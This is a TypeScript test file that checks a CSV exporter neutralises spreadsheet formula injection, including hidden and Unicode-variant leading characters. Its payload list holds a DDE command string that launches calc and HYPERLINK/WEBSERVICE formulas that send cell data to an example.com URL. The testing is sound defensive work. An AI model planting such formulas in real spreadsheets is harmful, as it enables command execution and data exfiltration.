import { expect, test } from 'vitest'

import { csvLines, csvText } from './csv-text.ts'

const STARTS = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '﹦', '﹢', '﹣', '﹫', '−']
const BEFORE = ['', ' ', '   ', '\t', '\r', '\n', '\0', '\u3000', '\u00a0', '\u200b', '\uFEFF']
const BODIES = [
  '1+1',
  "cmd|' /C calc'!A0",
  'HYPERLINK("http://example.com?x="&A1,"見積")',
  'WEBSERVICE(CONCATENATE("https://example.com/",A2))',
  'SUM(1+9)*cmd|"x"!A1',
]
/** Each start with each body, and each thing that hides a start. */
const PAYLOADS = [
  ...STARTS.flatMap((start) => BODIES.map((body) => start + body)),
  ...BEFORE.flatMap((before) => STARTS.slice(0, 4).map((start) => `${before}${start}1+1`)),
  ...['\tplain', '\rplain', '\0plain', '\u202e=1+1', '\u2066+1'],
]
const HARMLESS = [
  '',
  '山田太郎',
  '김민수',
  "O'Neill",
  'a "b", c',
  'two\r\nlines',
  ' ends and begins with a blank ',
  '00-1',
  '1=1',
  'x@example.com',
]

test('A.4 CSV: no cell begins with what a spreadsheet computes, however it is hidden', () => {
  expect(PAYLOADS.length).toBeGreaterThanOrEqual(60)
  for (const payload of PAYLOADS)
    expect([payload, parse(csvText([[payload]]))]).toEqual([payload, [[`'${payload}`]]])
})

test('A.4 CSV: everything else is read back as it was written', () => {
  expect(parse(csvText([HARMLESS, HARMLESS]))).toEqual([HARMLESS, HARMLESS])
})

test('A.4 CSV: a number is no formula, and nothing known is an empty cell', () => {
  expect(csvLines([[-5, 0, null, 1.5]])).toBe('-5,0,,1.5\r\n')
})

test('A.4 CSV: a file begins with the mark by which spreadsheets know UTF-8', () => {
  expect(csvText([])).toBe('\uFEFF')
})

/** RFC 4180, read by somebody else's rules: one sign after the other. */
function parse(text: string): string[][] {
  const rows: string[][] = []
  let row: string[] = []
  let cell = ''
  let isQuoted = false
  for (let at = 1; at < text.length; at++) {
    const sign = text[at] ?? ''
    if (isQuoted && sign === '"' && text[at + 1] === '"') cell += text[at++]
    else if (sign === '"') isQuoted = !isQuoted
    else if (isQuoted) cell += sign
    else if (sign === ',') cell = push(row, cell)
    else if (sign === '\r' && text[at + 1] === '\n') {
      push(row, cell)
      rows.push(row)
      row = []
      cell = ''
      at++
    } else cell += sign
  }
  return rows
}

function push(row: string[], cell: string): '' {
  row.push(cell)
  return ''
}
